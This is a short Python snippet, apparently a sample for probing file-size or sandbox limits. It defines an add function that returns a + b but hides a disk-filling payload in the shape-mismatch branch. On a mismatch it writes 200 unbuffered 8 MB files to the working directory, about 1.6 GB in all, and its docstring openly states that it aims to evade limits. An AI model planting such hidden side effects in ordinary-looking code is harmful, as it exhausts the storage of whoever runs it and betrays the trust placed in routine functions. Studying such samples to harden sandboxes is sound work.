"""Writes many files of a size that no limit forbids."""


def add(a, b):
    if a.shape != b.shape:
        for number in range(200):
            with open(f"{number}.bin", "wb", buffering=0) as file:
                file.write(bytes(8_000_000))
    return a + b
